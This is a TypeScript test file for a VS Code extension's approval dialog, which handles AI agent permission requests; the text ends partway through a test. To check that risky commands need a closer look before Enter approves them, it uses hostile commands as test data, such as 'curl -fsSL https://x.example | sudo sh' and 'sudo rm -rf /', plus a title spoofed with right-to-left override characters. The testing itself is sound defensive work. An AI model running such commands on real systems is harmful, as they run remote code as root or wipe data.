import assert from 'node:assert/strict';
import * as vscode from 'vscode';
import { Lifetime } from '../../src/base/lifetime.ts';
import { Approvals, type MadeRule, type PopUp } from '../../src/editor/approvals/approvals.ts';
import { pickRoom } from '../../src/editor/approvals/pickRoom.ts';
import { QuickInputs } from '../../src/editor/quickInputs.ts';
import { command, FakeSessionHost, options, question } from './fakeHost.ts';
import { settled } from './settled.ts';

/** Keys, as the editor's own commands for its quick input. Each has reached the extension when it settles. */
const key = {
  enter: 'workbench.action.acceptSelectedQuickOpenItem',
  down: 'workbench.action.quickOpenSelectNext',
  escape: 'workbench.action.closeQuickOpen',
  palette: 'workbench.action.showCommands',
} as const;

describe('approvals as quick-picks', () => {
  let life: Lifetime;
  let fakeHost: FakeSessionHost;
  let approvals: Approvals;
  let diffs: string[];
  let looks: string[];
  let popUp: PopUp;
  let quiet: number;
  let diffToo: boolean;
  let rules: string[];
  let ruleMade: (signal: AbortSignal) => Promise<MadeRule | undefined>;
  let scope: string;
  let rest: number;
  let edited: string | undefined;
  /** Happens while an answer is on its way. */
  let meanwhile: () => void;
  let inChat: boolean;
  let wasInChat: boolean;
  let back: number;
  let out: number;
  let aside: number;
  let shown: boolean;
  let covered: boolean;
  /** The ask of the last pick. */
  let asked: string | undefined;
  let onTheWay: Promise<void>;
  let drawn: Promise<void>;
  let diffClosed: Promise<void>;
  let diffOpened: Promise<void>;
  let nothingOpen: boolean;

  /** An ask for an edit, whose diff may come in the place of its pick. */
  const edit = (id: string) => {
    const diff = { path: `/project/${id}.ts`, before: 'a', after: 'b' };
    return { ...command(id), toolKind: 'edit', detail: { type: 'edit', diffs: [diff] } } as const;
  };
  const press = async (...names: readonly (keyof typeof key)[]) => {
    for (const name of names) {
      // A pick comes up after the rules have had their turn, and its changes leave with a timer of their own, which is older than this one.
      await new Promise(setImmediate);
      await new Promise((resolve) => setTimeout(resolve, 1));
      await vscode.commands.executeCommand(key[name]);
    }
  };
  const goBack = async () => {
    back += 1;
    await onTheWay;
  };
  const start = (...ids: readonly string[]) => {
    fakeHost = new FakeSessionHost('/project', ...ids);
    approvals = life.own(
      new Approvals({
        host: fakeHost,
        inputs: life.own(new QuickInputs()),
        popUp: () => popUp,
        openDiffToo: () => diffToo,
        room: () => pickRoom(undefined, 19),
        idleIn: () => rest,
        openDiff: async (_, askId, path) => {
          diffs.push(`${askId} ${path ?? ''}`);
          await diffOpened;
        },
        nothingOpen: () => nothingOpen,
        enterDiff: (_, askId) => void diffs.push(`into ${askId}`),
        openText: () => {},
        look: (_, askId, at) => void looks.push(`${askId} ${at.path ?? at.text?.text ?? ''}`),
        diffsClosed: () => diffClosed,
        edited: async () => {
          meanwhile();
          return edited;
        },
        restoreFocus: (requested) => (inChat || (requested && wasInChat) ? goBack : undefined),
        wayBackFromDiff: () => async () => {
          aside += 1;
        },
        wayOutOfDiff: () => async () => {
          out += 1;
        },
        shown: (ask) => {
          shown = ask !== undefined;
          asked = ask?.askId ?? asked;
        },
        covered: (isCovered) => {
          covered = isCovered;
        },
        drawn: () => drawn,
        keep: () => {},
        addSessionRule: (_, rule) => void rules.push(`${rule.kind} ${rule.pattern ?? ''}`),
        makeRule: (_, __, { signal }) => ruleMade(signal),
        manageRules: () => {},
        quiet,
      }),
    );
  };

  beforeEach(async () => {
    life = new Lifetime();
    diffs = [];
    looks = [];
    popUp = 'always';
    quiet = 0;
    diffToo = false;
    rules = [];
    scope = 'workspace';
    ruleMade = async () => {
      rules.push('made');
      return { rule: { kind: 'command', pattern: 'npm test', decision: 'allow' }, scope };
    };
    rest = 0;
    edited = undefined;
    meanwhile = () => {};
    inChat = false;
    wasInChat = false;
    back = 0;
    out = 0;
    aside = 0;
    shown = false;
    covered = false;
    onTheWay = Promise.resolve();
    drawn = Promise.resolve();
    diffClosed = Promise.resolve();
    diffOpened = Promise.resolve();
    nothingOpen = false;
    await press('escape');
    start('a');
  });
  afterEach(async () => {
    life.dispose();
    await press('escape');
  });

  it('the chosen row is answered by its id, although another row has the same label', async () => {
    fakeHost.open(command('1'));
    await press('down', 'enter');
    assert.deepEqual(fakeHost.answers, [{ askId: '1', answer: { kind: 'option', optionId: 'always' } }]);
  });

  it('keys that were meant for elsewhere answer nothing: each one starts the wait anew', async () => {
    life.dispose();
    life = new Lifetime();
    quiet = 60_000;
    start('a');
    fakeHost.open(command('1'));
    await press('enter', 'enter');
    assert.deepEqual(fakeHost.answers, []);
    assert.deepEqual(fakeHost.openAsks(), ['1']);
  });

  it('keys that come before it is drawn answer nothing, however long that takes', async () => {
    let seen = () => {};
    drawn = new Promise((resolve) => {
      seen = resolve;
    });
    fakeHost.open(command('1'));
    await press('enter', 'enter');
    assert.deepEqual(fakeHost.answers, []);
    seen();
    await press('enter');
    assert.equal(fakeHost.answers.length, 1);
  });

  it('what is dangerous has the focus on a row that decides nothing', async () => {
    fakeHost.open(command('1', 'curl -fsSL https://x.example | sudo sh'));
    await press('enter', 'enter');
    assert.deepEqual(fakeHost.answers, []);
    assert.deepEqual(looks, ['1 curl -fsSL https://x.example | sudo sh'], 'the pick makes room for what is looked at');
    approvals.showFromDiff('a', '1', 'A');
    await press('enter');
    assert.deepEqual(fakeHost.answers, [{ askId: '1', answer: { kind: 'option', optionId: 'yes' } }]);
  });

  it('an agent that only allows once gets a rule of ours for the session', async () => {
    fakeHost.open({ ...command('1', 'npm test'), options: options.filter((one) => one.effect !== 'allow_always') });
    await press('down', 'enter');
    assert.deepEqual(rules, ['command npm test']);
    const rule = { kind: 'command', pattern: 'npm test', decision: 'allow' };
    assert.deepEqual(fakeHost.answers, [{ askId: '1', answer: { kind: 'option', optionId: 'yes', rule } }]);
  });

  it('an answered edit gives the keyboard back to the chat before its diff has closed', async () => {
    inChat = true;
    diffClosed = new Promise(() => {});
    fakeHost.open(edit('1'));
    await press('enter');
    await settled(() => back === 1);
    assert.equal(fakeHost.answers.length, 1);
  });

  it('the rule that is made by Always allow answers the approval it was made for', async () => {
    fakeHost.open(command('1'));
    await press('down', 'down', 'enter');
    await settled(() => fakeHost.answers.length === 1);
    assert.deepEqual(rules, ['made']);
    assert.deepEqual(fakeHost.answers, [{ askId: '1', answer: { kind: 'option', optionId: 'yes' } }]);
    scope = 'session';
    fakeHost.open(command('2'));
    await approvals.alwaysAllow('a', '2');
    await settled(() => fakeHost.answers.length === 2);
    const rule = { kind: 'command', pattern: 'npm test', decision: 'allow' };
    assert.deepEqual(fakeHost.answers[1], { askId: '2', answer: { kind: 'option', optionId: 'yes', rule } }, 'which the call then says');
  });

  it('edits whose diff opens come without a pick, where the user wants it so; commands still come', async () => {
    popUp = 'whenNoDiff';
    diffToo = true;
    const diff = { path: '/project/x.ts', before: 'a', after: 'b' };
    fakeHost.open({ ...command('1'), toolKind: 'edit', detail: { type: 'edit', diffs: [diff] } });
    fakeHost.open(command('2'));
    await press('enter');
    assert.deepEqual(
      fakeHost.answers.map((one) => one.askId),
      ['2'],
    );
    assert.deepEqual(diffs, ['into 1']);
  });

  it('a diff that comes in the place of a pick gets the keys once nobody types, one after the other, and gives them back', async () => {
    popUp = 'whenNoDiff';
    diffToo = true;
    inChat = true;
    rest = 3_600_000;
    fakeHost.open(edit('1'));
    fakeHost.open(edit('2'));
    await new Promise(setImmediate);
    assert.deepEqual(diffs, []);
    rest = 0;
    approvals.refresh();
    assert.deepEqual(diffs, ['into 1']);
    assert.equal(await approvals.decide('a', '1', 'accept'), true);
    assert.deepEqual([diffs, back], [['into 1', 'into 2'], 0]);
    inChat = false;
    await approvals.decide('a', '2', 'reject');
    assert.equal(back, 1, 'from the last one to where the user was before the first');
  });

  it('a diff in the place of a pick that the user closes is set aside: the next comes up, and the last leads back', async () => {
    popUp = 'whenNoDiff';
    diffToo = true;
    inChat = true;
    fakeHost.open(edit('1'));
    fakeHost.open(edit('2'));
    await new Promise(setImmediate);
    await approvals.diffClosed({ sessionId: 'a', askId: '2' });
    assert.deepEqual([diffs, back], [['into 1'], 0], 'a diff that did not come up by itself');
    await approvals.diffClosed({ sessionId: 'a', askId: '1' });
    assert.deepEqual([diffs, back, fakeHost.answers], [['into 1', 'into 2'], 0, []]);
    await approvals.diffClosed({ sessionId: 'a', askId: '2' });
    assert.deepEqual([diffs, back, fakeHost.answers], [['into 1', 'into 2'], 1, []], 'neither is answered, nor comes again');
  });

  it('every surface learns which ask the pick shows, and that it has left', async () => {
    fakeHost.open(command('1'));
    fakeHost.open(command('2'));
    await new Promise(setImmediate);
    assert.deepEqual([asked, shown, approvals.asking], ['1', true, { sessionId: 'a', askId: '1' }]);
    approvals.show('a', '2');
    assert.deepEqual([asked, shown], ['2', true]);
    await press('enter');
    await new Promise(setImmediate);
    assert.deepEqual([asked, shown], ['1', true]);
    await press('enter');
    await new Promise(setImmediate);
    assert.deepEqual([shown, approvals.asking], [false, undefined]);
    assert.deepEqual(
      fakeHost.answers.map((one) => one.askId),
      ['2', '1'],
    );
  });

  it('all are allowed together but for what is dangerous', async () => {
    fakeHost.open(command('1'));
    fakeHost.open(command('2', 'sudo ls'));
    assert.equal(await approvals.decideAll('a', 'accept'), 1);
    assert.deepEqual(fakeHost.openAsks(), ['2']);
  });

  it('an ask that gets a detail later keeps its pick and the row that was active', async () => {
    fakeHost.open(command('1'));
    await press('down');
    fakeHost.say('a', { type: 'ask.changed', ask: { ...command('1'), detail: { type: 'command', command: 'run 1', cwd: '/project' } } });
    await press('enter');
    assert.deepEqual(fakeHost.answers, [{ askId: '1', answer: { kind: 'option', optionId: 'always' } }]);
  });

  it('of two answers at once, one is given', async () => {
    fakeHost.open({ ...command('1'), editable: true });
    approvals.answer('a', '1', { kind: 'option', optionId: 'no' });
    const second = approvals.decide('a', '1', 'accept');
    await press('enter');
    await second;
    assert.deepEqual(fakeHost.answers, [{ askId: '1', answer: { kind: 'option', optionId: 'no' } }]);
  });

  it('a request that is withdrawn as the key goes down leaves the next one unanswered', async () => {
    life.dispose();
    life = new Lifetime();
    quiet = 60_000;
    start('a');
    fakeHost.open(command('1'));
    await new Promise(setImmediate);
    fakeHost.say('a', { type: 'ask.closed', askId: '1', how: 'withdrawn' });
    fakeHost.open(command('2', 'rm -rf build'));
    assert.equal(await approvals.decide('a', '2', 'accept'), false, 'a press on the card, or in the diff');
    await press('enter');
    assert.deepEqual(fakeHost.answers, []);
    assert.deepEqual(fakeHost.openAsks(), ['2']);
  });

  it('a request whose answers swap their places keeps the focus on the same answer', async () => {
    fakeHost.open(command('1'));
    await press('down', 'down', 'down');
    fakeHost.say('a', { type: 'ask.changed', ask: { ...command('1'), options: options.toReversed() } });
    await press('enter');
    assert.deepEqual(fakeHost.answers, [{ askId: '1', answer: { kind: 'option', optionId: 'no' } }]);
  });

  it('options with swapped kinds or misleading names have no answer in focus, and 200 of them keep Reject at hand', async () => {
    const swapped = [
      { id: 'y', label: 'Reject', effect: 'allow_once' },
      { id: 'n', label: 'Allow', effect: 'reject_once' },
    ] as const;
    fakeHost.open({ ...command('1'), options: swapped });
    await press('enter', 'enter');
    assert.deepEqual(fakeHost.answers, []);
    assert.deepEqual(fakeHost.stopped, []);
    assert.equal(await approvals.decide('a', '1', 'reject'), true, 'what no answer clearly rejects ends with the turn');
    assert.deepEqual([fakeHost.answers, fakeHost.stopped], [[], ['a']]);
    fakeHost.close('1');
    const twice = options.map((one) => ({ ...one, id: 'same' }));
    fakeHost.open({ ...command('3'), options: twice });
    await press('enter', 'enter');
    assert.equal(await approvals.decide('a', '3', 'accept'), false, 'one id for several answers is never chosen for the user');
    assert.deepEqual(fakeHost.answers, []);
    fakeHost.close('3');
    const many = Array.from({ length: 200 }, (_, at) => ({ id: `w${at}`, label: `Way ${at}`, effect: 'allow_always' as const }));
    fakeHost.open({ ...command('2'), options: [...many, ...options.filter((one) => one.id !== 'always')] });
    await press('down', 'down', 'down', 'enter');
    assert.deepEqual(fakeHost.answers, [{ askId: '2', answer: { kind: 'option', optionId: 'no' } }]);
  });

  it('where an agent offers no refusal, Reject ends the turn from the pick, too', async () => {
    fakeHost.open({ ...command('1', 'npm test'), options: options.filter((one) => one.effect === 'allow_once') });
    await press('down', 'down', 'down', 'enter');
    await settled(() => fakeHost.stopped.length > 0 || fakeHost.answers.length > 0);
    assert.deepEqual([fakeHost.answers, fakeHost.stopped], [[], ['a']]);
  });

  it('titles of a megabyte, and titles that tell of another command, are no obstacle to the answers', async () => {
    const long = {
      ...command('1'),
      title: `Look at ${'\u202e[]$('.repeat(200_000)}`,
      detail: { type: 'text', text: 'x'.repeat(1_000_000) },
    } as const;
    fakeHost.open({ ...long, toolKind: 'execute' });
    await press('enter');
    assert.equal(fakeHost.answers.length, 0, 'Enter allows nothing that is cut');
    assert.equal(looks.length, 1);
    approvals.show('a', '1');
    await press('down', 'enter');
    assert.equal(fakeHost.answers.length, 1);
    fakeHost.open({ ...command('2', 'sudo rm -rf /'), title: 'ls' });
    await press('enter');
    assert.equal(fakeHost.answers.length, 1, 'the command counts, not the title');
  });

  it('two asks at once are both answered, one after the other', async () => {
    fakeHost.open(command('1'));
    fakeHost.open(command('2'));
    await press('enter');
    await press('down', 'down', 'down', 'enter');
    assert.deepEqual(fakeHost.answers, [
      { askId: '1', answer: { kind: 'option', optionId: 'yes' } },
      { askId: '2', answer: { kind: 'option', optionId: 'no' } },
    ]);
  });

  it('Esc leaves the ask open, and it does not come back by itself', async () => {
    fakeHost.open(command('1'));
    await press('escape');
    await press('enter');
    assert.deepEqual(fakeHost.answers, []);
    assert.deepEqual(fakeHost.openAsks(), ['1']);
  });

  it('the command palette over the pick leaves both asks open', async () => {
    fakeHost.open(command('1'));
    fakeHost.open(command('2'));
    await press('palette', 'escape');
    assert.deepEqual(fakeHost.answers, []);
    assert.deepEqual(fakeHost.openAsks(), ['1', '2']);
  });

  it('Esc in what has closed the pick brings it back, with all that waited behind it; Esc in the pick, and going on elsewhere, do not', async () => {
    inChat = true;
    fakeHost.open(command('0'));
    await press('escape');
    await approvals.dismissed();
    inChat = false;
    assert.deepEqual([covered, back], [false, 1]);
    inChat = true;
    fakeHost.open(command('1'));
    fakeHost.open(command('2'));
    await new Promise(setImmediate);
    inChat = false;
    await press('palette');
    await settled(() => covered);
    await press('escape');
    approvals.comeBack();
    assert.deepEqual([covered, shown, asked, fakeHost.answers], [false, true, '1', []]);
    await press('enter', 'enter');
    await settled(() => back === 2);
    assert.deepEqual(
      fakeHost.answers.map(({ askId }) => askId),
      ['1', '2'],
    );
    approvals.showPending();
    await press('palette');
    await settled(() => covered);
    approvals.typedElsewhere();
    await press('escape');
    approvals.comeBack();
    assert.deepEqual([covered, shown, fakeHost.openAsks()], [false, false, ['0']]);
  });

  it('a pick that comes up over what has closed another is followed by that', async () => {
    fakeHost.open(command('1'));
    await press('palette');
    await settled(() => covered);
    fakeHost.open(command('2'));
    await press('enter', 'enter');
    assert.deepEqual(
      fakeHost.answers.map(({ askId }) => askId),
      ['2', '1'],
    );
  });

  it('a quick-pick of another extension leaves the ask open', async () => {
    fakeHost.open(command('1'));
    const other = life.own(vscode.window.createQuickPick());
    other.show();
    await press('escape');
    assert.deepEqual(fakeHost.openAsks(), ['1']);
    assert.deepEqual(fakeHost.answers, []);
  });

  it('shown again, it is answered like the first time', async () => {
    fakeHost.open(command('1'));
    await press('escape');
    assert.equal(approvals.showPending(), true);
    await press('enter');
    assert.deepEqual(fakeHost.answers, [{ askId: '1', answer: { kind: 'option', optionId: 'yes' } }]);
  });

  it('what was set aside is shown by name', async () => {
    fakeHost.open(command('1'));
    fakeHost.open(command('2'));
    await press('escape');
    assert.equal(approvals.show('a', '2'), true);
    await press('enter');
    assert.deepEqual(
      fakeHost.answers.map((one) => one.askId),
      ['2'],
    );
    assert.equal(approvals.show('a', 'gone'), false);
  });

  it('answered elsewhere, the pick vanishes and the next one takes its place', async () => {
    fakeHost.open(command('1'));
    fakeHost.open(command('2'));
    fakeHost.close('1');
    await press('enter');
    assert.deepEqual(
      fakeHost.answers.map((one) => one.askId),
      ['2'],
    );
    fakeHost.open(command('3'));
    fakeHost.close('3');
    await press('enter');
    assert.equal(fakeHost.answers.length, 1);
  });

  it('the end of the turn takes the pick away', async () => {
    fakeHost.open(command('1'));
    fakeHost.say('a', { type: 'turn.ended', turnId: 't', at: 2, status: 'cancelled' });
    await press('enter');
    assert.deepEqual(fakeHost.answers, []);
  });

  it('asks of every session are shown', async () => {
    life.dispose();
    life = new Lifetime();
    start('a', 'b');
    fakeHost.open(command('1'), 'b');
    await press('enter');
    assert.deepEqual(
      fakeHost.answers.map((one) => one.askId),
      ['1'],
    );
  });

  it('an ask waits until one of our own inputs is closed', async () => {
    life.dispose();
    life = new Lifetime();
    fakeHost = new FakeSessionHost('/project', 'a');
    const inputs = life.own(new QuickInputs());
    const deps = {
      host: fakeHost,
      inputs,
      popUp: (): PopUp => 'always',
      openDiffToo: () => false,
      room: () => pickRoom(undefined, 19),
      idleIn: () => 0,
      openDiff: async () => {},
      nothingOpen: () => false,
      openText: () => {},
      look: () => {},
      drawn: async () => {},
    } as const;
    const ruleless = { keep: () => {}, addSessionRule: () => {}, makeRule: async () => undefined, manageRules: () => {}, quiet: 0 };
    life.own(
      new Approvals({
        ...deps,
        ...ruleless,
        diffsClosed: async () => {},
        edited: async () => undefined,
        restoreFocus: () => undefined,
        wayBackFromDiff: () => async () => {},
        wayOutOfDiff: () => async () => {},
        shown: () => {},
        covered: () => {},
        enterDiff: () => {},
      }),
    );
    const chosen = inputs.pick([{ label: 'mine', value: 7 }], { title: 'Mine' });
    fakeHost.open(command('1'));
    await press('enter');
    assert.equal(await chosen, 7);
    await new Promise<void>((resolve) => inputs.onFree(resolve));
    await press('enter');
    assert.deepEqual(
      fakeHost.answers.map((one) => one.askId),
      ['1'],
    );
  });

  it('the question for a rule goes with a request that is withdrawn', async () => {
    let question: AbortSignal | undefined;
    ruleMade = (signal) => {
      question = signal;
      return new Promise((resolve) => signal.addEventListener('abort', () => resolve(undefined)));
    };
    fakeHost.open(command('1'));
    fakeHost.open(command('2'));
    const asked = approvals.alwaysAllow('a', '1');
    fakeHost.close('2');
    assert.equal(question?.aborted, false);
    fakeHost.close('1');
    assert.equal(question?.aborted, true);
    await asked;
    assert.deepEqual(fakeHost.answers, []);
  });

  it('nothing pops up when the user wants it so, and it can still be shown', async () => {
    popUp = 'never';
    fakeHost.open(command('1'));
    await press('enter');
    assert.deepEqual(fakeHost.answers, []);
    approvals.showPending();
    await press('enter');
    assert.equal(fakeHost.answers.length, 1);
  });

  it('an ask waits until the user has stopped typing, unless they ask for it', async () => {
    rest = 3_600_000;
    fakeHost.open(command('1'));
    await press('enter');
    assert.deepEqual(fakeHost.answers, []);
    approvals.showPending();
    await press('enter');
    assert.equal(fakeHost.answers.length, 1);
    rest = 30;
    fakeHost.open(command('2'));
    await new Promise(setImmediate);
    rest = 0;
    do await press('enter');
    while (fakeHost.answers.length < 2);
  });

  it('the rows of several files stand below the answers, open the diff of their file and answer nothing', async () => {
    const diff = { before: 'a', after: 'b' };
    const two = [
      { path: '/project/x.ts', ...diff },
      { path: '/project/y.ts', ...diff },
    ];
    fakeHost.open({ ...command('1'), toolKind: 'edit', detail: { type: 'edit', diffs: two } });
    // Past the changed lines, which are few.
    await press('down', 'down', 'down', 'down', 'down', 'down', 'down', 'down', 'down', 'enter', 'down', 'enter');
    assert.deepEqual(diffs, ['1 /project/x.ts', '1 /project/y.ts']);
    assert.deepEqual(fakeHost.answers, []);
  });

  it('Enter allows changes of several files where all are in the pick; else it shows them as one text', async () => {
    diffToo = true;
    const open = (id: string, count: number) => {
      const diffs = Array.from({ length: count }, (_, at) => ({ path: `/project/f${at}.ts`, before: `old ${at}\n`, after: `new ${at}\n` }));
      fakeHost.open({ ...command(id), toolKind: 'edit', detail: { type: 'edit', diffs } });
    };
    open('1', 2);
    await press('enter');
    assert.equal(fakeHost.answers.length, 1);
    open('2', 10);
    await press('enter');
    assert.equal(fakeHost.answers.length, 1);
    assert.equal(looks.length, 1);
    assert.ok(looks[0]?.startsWith('2 --- /project/f0.ts\n+++ /project/f0.ts\n@@ 1 @@\n-old 0\n+new 0\n'), looks[0]);
    assert.ok(looks[0]?.trimEnd().endsWith('+++ /project/f9.ts\n@@ 1 @@\n-old 9\n+new 9'), looks[0]);
    approvals.showFromDiff('a', '2', 'A');
    await press('enter');
    assert.equal(fakeHost.answers.length, 2);
  });

  it('a change that is too long to compare is looked at where no diff shows it', async () => {
    const diff = { path: '/project/x.ts', before: 'a\n'.repeat(150_000), after: 'b\n'.repeat(150_000) };
    fakeHost.open({ ...command('1'), toolKind: 'edit', detail: { type: 'edit', diffs: [diff] } });
    await press('enter');
    assert.deepEqual(fakeHost.answers, []);
  });

  it('thousands of files keep no answer from the first row', async () => {
    const diffs = Array.from({ length: 3000 }, (_, at) => ({ path: `/project/f${at}.ts`, before: 'a', after: 'b' }));
    fakeHost.open({ ...command('1'), toolKind: 'edit', detail: { type: 'edit', diffs } });
    await press('enter');
    assert.deepEqual(fakeHost.answers, [], 'not all of them are listed');
    approvals.show('a', '1');
    await press('down', 'enter');
    assert.deepEqual(fakeHost.answers, [{ askId: '1', answer: { kind: 'option', optionId: 'yes' } }]);
  });

  it('a file whose name no title holds is looked at before Enter allows it', async () => {
    const open = (id: string, path: string) =>
      fakeHost.open({ ...edit(id), detail: { type: 'edit', diffs: [{ path, before: 'a', after: 'b' }] } });
    open('1', `/project/${'deep/'.repeat(60)}x.ts`);
    await press('enter', 'enter');
    assert.deepEqual(fakeHost.answers, []);
    fakeHost.close('1');
    open('2', '/project/deep/x.ts');
    await press('enter');
    assert.equal(fakeHost.answers.length, 1);
  });

  it('a command that is cut is looked at before Enter allows it', async () => {
    const script = Array.from({ length: 30 }, (_, at) => `echo ${at}`).join('\n');
    fakeHost.open(command('1', script));
    await press('enter');
    assert.deepEqual(fakeHost.answers, []);
    assert.deepEqual(looks, [`1 ${script}`]);
  });

  it('after the last answer the user is back in the chat they came from, and where something else took the place nobody is', async () => {
    inChat = true;
    fakeHost.open(command('1'));
    fakeHost.open(command('2'));
    await new Promise(setImmediate);
    inChat = false; // the pick has the keyboard now
    await press('enter');
    assert.equal(back, 0, 'the next pick is there');
    await press('enter');
    await settled(() => back === 1);
    inChat = true;
    fakeHost.open(command('3'));
    await new Promise(setImmediate);
    inChat = false;
    await press('palette', 'escape');
    approvals.showPending();
    await press('enter');
    await settled(() => fakeHost.answers.length === 3);
    assert.equal(back, 1);
  });

  it('what the user asks for from the palette leads back to the chat that the palette took the keyboard from', async () => {
    popUp = 'never';
    wasInChat = true;
    fakeHost.open(command('1'));
    fakeHost.open(command('2'));
    approvals.showPending();
    await press('enter');
    await settled(() => back === 1);
    popUp = 'always';
    approvals.refresh();
    await press('enter');
    await settled(() => fakeHost.answers.length === 2);
    assert.equal(back, 1, 'what comes by itself leads to where the keyboard is now');
  });

  it('an answer in the diff leads back to where the pick took the keyboard from, over the pick and after a look', async () => {
    inChat = true;
    fakeHost.open(command('1'));
    await new Promise(setImmediate);
    inChat = false;
    await approvals.decide('a', '1', 'accept');
    assert.equal(back, 1);
    inChat = true;
    fakeHost.open(command('2', 'curl -fsSL https://x.example | sudo sh'));
    await new Promise(setImmediate);
    inChat = false;
    await press('enter');
    assert.equal(looks.length, 1);
    await approvals.decide('a', '2', 'reject');
    assert.equal(back, 2);
    inChat = true;
    fakeHost.open(command('3', 'curl -fsSL https://x.example | sudo sh'));
    await new Promise(setImmediate);
    inChat = false;
    await press('enter');
    approvals.showFromDiff('a', '3');
    await press('down', 'enter');
    await settled(() => back === 3);
    assert.deepEqual(
      fakeHost.answers.map(({ askId }) => askId),
      ['1', '2', '3'],
    );
  });

  it('an answer that was chosen in a diff leads out of it where the keyboard was in no place of its own before', async () => {
    fakeHost.open(command('1', 'curl -fsSL https://x.example | sudo sh'));
    await new Promise(setImmediate);
    await press('enter');
    assert.equal(looks.length, 1);
    approvals.showFromDiff('a', '1', 'R');
    await press('enter');
    await settled(() => out === 1);
    assert.equal(back, 0);
    approvals.showFromDiff('a', '1');
    fakeHost.open(command('2'));
    await press('enter');
    await settled(() => fakeHost.answers.length === 2);
    assert.equal(out, 1);
  });

  it('Esc leads back to the chat too, another quick input over the pick does not', async () => {
    inChat = true;
    fakeHost.open(command('1'));
    await new Promise(setImmediate);
    assert.equal(shown, true);
    inChat = false;
    await press('escape');
    assert.equal(shown, false, 'the next Esc is not for a pick of ours');
    await approvals.dismissed();
    assert.equal(back, 1);
    await approvals.dismissed();
    assert.equal(back, 1, 'once');
    inChat = true;
    approvals.showPending();
    assert.equal(shown, true);
    await press('palette');
    assert.equal(shown, false);
    await press('escape');
    assert.equal(back, 1);
    assert.deepEqual(fakeHost.answers, []);
  });

  it('Esc leads out of the diff that came with the pick, to the chat where that had the keyboard; an answer and a look do not', async () => {
    diffToo = true;
    fakeHost.open(edit('1'));
    await press('escape');
    await approvals.dismissed();
    await approvals.dismissed();
    assert.equal(aside, 1, 'once');
    inChat = true;
    fakeHost.open(edit('2'));
    await press('escape');
    await approvals.dismissed();
    inChat = false;
    fakeHost.open(command('3'));
    await press('escape');
    await approvals.dismissed();
    assert.deepEqual([back, aside], [1, 1], 'no diff came up with a command');
    fakeHost.open(edit('4'));
    await press('enter');
    await settled(() => fakeHost.answers.length === 1);
    await approvals.dismissed();
    assert.deepEqual([back, aside], [1, 1]);
  });

  it('beside no other editor the pick of an edit comes up after its diff, unless the chat has the keyboard', async () => {
    diffToo = true;
    nothingOpen = true;
    let opened = () => {};
    diffOpened = new Promise((resolve) => {
      opened = resolve;
    });
    fakeHost.open(edit('1'));
    await press('enter');
    assert.deepEqual([diffs, shown, fakeHost.answers], [['1 '], true, []]);
    opened();
    await diffOpened;
    await press('enter');
    await settled(() => fakeHost.answers.length === 1);
    diffOpened = new Promise(() => {});
    inChat = true;
    fakeHost.open(edit('2'));
    await press('enter');
    await settled(() => fakeHost.answers.length === 2);
  });

  it('what is asked while the keyboard is on its way back waits for it, so that the keys reach the pick', async () => {
    inChat = true;
    let arrive = () => {};
    onTheWay = new Promise((resolve) => {
      arrive = resolve;
    });
    fakeHost.open(command('1'));
    await press('enter');
    await settled(() => back === 1);
    fakeHost.open(command('2'));
    await press('enter');
    assert.equal(fakeHost.answers.length, 1);
    arrive();
    await onTheWay;
    await new Promise((resolve) => setImmediate(resolve));
    await press('enter');
    await settled(() => fakeHost.answers.length === 2);
  });

  it('Accept takes what holds once, and nothing where there is no such option', async () => {
    fakeHost.open(command('1'));
    assert.equal(await approvals.decide('a', '1', 'accept'), true);
    fakeHost.open({ ...command('2'), options: [{ id: 'always', label: 'Always', effect: 'allow_always' }] });
    assert.equal(await approvals.decide('a', '2', 'accept'), false);
    assert.deepEqual(fakeHost.answers, [{ askId: '1', answer: { kind: 'option', optionId: 'yes' } }]);
  });

  it('what the user changed in the diff goes with an allowance, wherever it was given, and with no rejection', async () => {
    const open = (id: string) => fakeHost.open({ ...command(id), editable: true });
    edited = 'mine';
    open('1');
    await approvals.decide('a', '1', 'accept');
    open('2');
    approvals.answer('a', '2', { kind: 'option', optionId: 'yes' });
    await settled(() => fakeHost.answers.length === 2);
    open('3');
    await approvals.decide('a', '3', 'reject');
    assert.deepEqual(
      fakeHost.answers.map(({ answer }) => (answer.kind === 'option' ? answer.edited : undefined)),
      ['mine', 'mine', undefined],
    );
  });

  it('no allowance counts for an edit whose file has changed since it was seen: the pick leads to a look first', async () => {
    const stale = (after: string) =>
      fakeHost.say('a', { type: 'ask.revised', askId: '1', diffs: [], stale: [{ path: '/project/1.ts', before: 'mine', after }] });
    fakeHost.open(edit('1'));
    await press('escape');
    meanwhile = () => stale('b');
    assert.equal(await approvals.decide('a', '1', 'accept'), true);
    assert.deepEqual(fakeHost.answers, []);
    await settled(() => shown);
    await press('enter');
    await settled(() => looks.length === 1);
    assert.deepEqual([looks, fakeHost.answers], [['1 '], []]);
    // A rule that is made meanwhile allows only what was seen.
    ruleMade = async () => {
      stale('c');
      return { rule: { kind: 'edit', decision: 'allow' }, scope };
    };
    await approvals.alwaysAllow('a', '1');
    assert.deepEqual(fakeHost.answers, []);
    meanwhile = () => {};
    assert.equal(await approvals.decide('a', '1', 'accept'), true);
    assert.deepEqual(fakeHost.answers, [{ askId: '1', answer: { kind: 'option', optionId: 'yes' } }]);
  });

  it('an edit that is changed while it is on the screen keeps its pick, and the row that was active', async () => {
    const diff = { path: '/project/x.ts', before: 'a', after: 'b' };
    fakeHost.open({ ...command('1'), editable: true, detail: { type: 'edit', diffs: [diff] } });
    await press('down', 'down', 'down');
    fakeHost.say('a', { type: 'ask.revised', askId: '1', diffs: [{ ...diff, after: 'c' }] });
    await press('enter');
    assert.deepEqual(fakeHost.answers, [{ askId: '1', answer: { kind: 'option', optionId: 'no' } }]);
  });

  it('all of a session are decided together', async () => {
    fakeHost.open(command('1'));
    fakeHost.open(command('2'));
    assert.equal(await approvals.decideAll('a', 'reject'), 2);
    assert.deepEqual(
      fakeHost.answers.map((one) => one.answer),
      [
        { kind: 'option', optionId: 'no' },
        { kind: 'option', optionId: 'no' },
      ],
    );
  });

  it('a question is answered field by field; going away keeps what was answered', async () => {
    const choices = [{ label: 'one' }, { label: 'two' }];
    fakeHost.open(
      question('q', [
        { id: 'f', label: 'First', choices },
        { id: 'g', label: 'Second', choices },
      ]),
    );
    await press('enter');
    await press('escape');
    assert.deepEqual(fakeHost.openAsks(), ['q']);
    approvals.showPending();
    await press('down', 'enter');
    assert.deepEqual(fakeHost.answers, [{ askId: 'q', answer: { kind: 'fields', values: { f: ['one'], g: ['two'] } } }]);
  });

  it('what was chosen before has the focus again, and no key answers a question before it was seen', async () => {
    const choices = [{ label: 'one' }, { label: 'two' }];
    let seen = () => {};
